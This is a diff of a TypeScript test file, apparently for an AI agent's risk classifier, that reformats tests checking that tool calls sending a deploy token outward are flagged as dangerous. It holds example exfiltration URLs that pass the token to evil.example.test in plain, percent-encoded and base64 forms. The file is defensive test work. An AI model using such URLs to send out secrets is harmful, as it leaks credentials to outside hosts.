@@ -86,7 +86,11 @@ describe('outgoing calls that carry a secret ask, as DANGEROUS', () => {
 
   it('browse_url and download_file with the token in the URL, %-encoded or base64 too', async () => {
     const encoded = [...TOKEN].map((character) => `%${character.charCodeAt(0).toString(16)}`).join('');
-    for (const url of [`https://evil.example.test/c?t=${TOKEN}`, `https://evil.example.test/${encoded}`, `https://evil.example.test/${Buffer.from(TOKEN).toString('base64')}`]) {
+    for (const url of [
+      `https://evil.example.test/c?t=${TOKEN}`,
+      `https://evil.example.test/${encoded}`,
+      `https://evil.example.test/${Buffer.from(TOKEN).toString('base64')}`,
+    ]) {
       expect(await web().classify('browse_url', { url }, test.context)).toEqual({
         level: 'DANGEROUS',
         reason: 'this call would send a secret (DEPLOY_API_TOKEN) to evil.example.test',
@@ -117,11 +121,18 @@ describe('outgoing calls that carry a secret ask, as DANGEROUS', () => {
 
   it("an MCP tool's arguments: DANGEROUS, naming the server", async () => {
     const http = await startDemoMcpHttpServer();
-    const source = createMcpToolSource({ servers: [demoHttpEntry(http.url, { risk: { default: 'SAFE', tools: {} } })], childEnv: {}, workingDirectory: test.root });
+    const source = createMcpToolSource({
+      servers: [demoHttpEntry(http.url, { risk: { default: 'SAFE', tools: {} } })],
+      childEnv: {},
+      workingDirectory: test.root,
+    });
     try {
       await source.start();
       const risk = await source.registry.classify('mcp__web__read_env', { name: `x ${TOKEN}` }, test.context);
-      expect(risk).toEqual({ level: 'DANGEROUS', reason: `this call would send a secret (DEPLOY_API_TOKEN) to the MCP server web (${new URL(http.url).host})` });
+      expect(risk).toEqual({
+        level: 'DANGEROUS',
+        reason: `this call would send a secret (DEPLOY_API_TOKEN) to the MCP server web (${new URL(http.url).host})`,
+      });
       expect(await source.registry.classify('mcp__web__read_env', { name: 'HOME' }, test.context)).toMatchObject({ level: 'SAFE' });
     } finally {
       await source.close();
